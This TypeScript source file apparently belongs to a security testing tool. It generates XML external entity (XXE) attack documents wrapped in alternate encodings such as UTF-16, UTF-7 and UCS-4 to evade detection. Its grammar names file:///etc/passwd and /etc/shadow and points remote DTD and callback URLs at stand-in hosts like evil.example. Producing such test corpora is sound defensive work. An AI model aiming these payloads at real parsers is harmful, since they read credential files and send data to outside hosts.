import type { Random } from '../../../random.js';
import type { Attack, Generator } from '../../attack.js';
import { writeByGrammar, writeDistinct } from '../../grammar.js';

/**
 * Documents in encodings that a parser finds out by itself or is told (XML 1.0, appendix F): UTF-16 without a mark,
 * UTF-7, EBCDIC declared over ASCII, and declarations that no reader of bytes follows.
 */
export const declaredEncoding: Generator = {
  family: 'xxe',
  name: 'declared-encoding',
  generate: (random, count) =>
    writeDistinct<Attack>(
      count,
      () => write(random),
      ({ text }) => text,
    ),
};

function write(random: Random): Attack {
  const [encoding, encode, parser] = random.pick(ENCODINGS);
  const text = encode(writeByGrammar(random, RULES), encoding);
  return {
    family: 'xxe',
    text,
    position: { location: 'text', context: 'document', dialect: parser },
    origin: 'declared-encoding',
    mutations: [],
  };
}

type Encoding = readonly [name: string, encode: (document: string, name: string) => string, parser: 'libxml' | 'other'];

const declared = (document: string, name: string): string => `<?xml version="1.0" encoding="${name}"?>${document}`;
const units = (text: string, low: boolean): string =>
  [...text].map((c) => (low ? `${c}\u0000` : `\u0000${c}`)).join('');
/** UTF-7 (RFC 2152): what is not plain goes as base64 of UTF-16. */
const shifted = (text: string): string =>
  text.replace(
    /[^\w\s'(),./:?-]+/g,
    (run) => `+${Buffer.from(run, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`,
  );

const ENCODINGS: readonly Encoding[] = [
  ['UTF-16', (document, name) => units(declared(document, name), true), 'libxml'],
  ['UTF-16LE', (document, name) => units(declared(document, name), true), 'libxml'],
  ['UTF-16BE', (document, name) => units(declared(document, name), false), 'libxml'],
  ['utf-16', (document, name) => units(declared(document, name), false), 'libxml'],
  ['UTF-7', (document, name) => `<?xml version="1.0" encoding="${name}"?>${shifted(document)}`, 'libxml'],
  ['utf-7', (document, name) => `<?xml version='1.0' encoding='${name}'?>\n${shifted(document)}`, 'libxml'],
  [
    'UTF-7',
    (document, name) =>
      `<?xml version="1.0" encoding="${name}" standalone="no"?>${[...document].map((c) => (/[<>!%&"[\]]/.test(c) ? shifted(c) : c)).join('')}`,
    'libxml',
  ],
  ['ISO-8859-15', declared, 'libxml'],
  ['windows-1252', declared, 'libxml'],
  ['Shift_JIS', declared, 'libxml'],
  ['GBK', declared, 'libxml'],
  ['US-ASCII', declared, 'libxml'],
  ['KOI8-R', declared, 'libxml'],
  ['HZ-GB-2312', declared, 'other'],
  ['ISO-2022-JP', declared, 'libxml'],
  ['utf8', declared, 'other'],
  ['UCS-4', (document, name) => [...declared(document, name)].map((c) => `${c}\u0000\u0000\u0000`).join(''), 'libxml'],
  [
    'UTF-32BE',
    (document, name) => [...declared(document, name)].map((c) => `\u0000\u0000\u0000${c}`).join(''),
    'other',
  ],
];

const RULES = {
  start: [
    '<!DOCTYPE {r:r} [<!ENTITY {e:e} SYSTEM "{t}">]><{r:r}>&{e:e};</{r:r}>',
    "<!DOCTYPE {r:r} [<!ENTITY {e:e} SYSTEM '{t}'>]><{r:r}><a>&{e:e};</a></{r:r}>",
    '<!DOCTYPE {r:r} [<!ENTITY % {e:e} SYSTEM "{t}"> %{e:e};]><{r:r}/>',
    '<!DOCTYPE {r:r} SYSTEM "{t}"><{r:r}/>',
    '<!DOCTYPE {r:r} PUBLIC "-//x//y" "{t}"><{r:r}>x</{r:r}>',
  ],
  r: ['r', 'data', 'order', 'x', 'svg', 'feed', 'user'],
  e: ['x', 'xxe', 'f', 'e1', 'ent'],
  t: [
    'file:///etc/passwd',
    '/etc/hosts',
    'file:///etc/hostname',
    'http://203.0.113.8/x',
    'http://evil.example/a.dtd',
    'https://x.oast.example/',
    'ftp://198.51.100.7/d',
    'file:///etc/shadow',
  ],
};
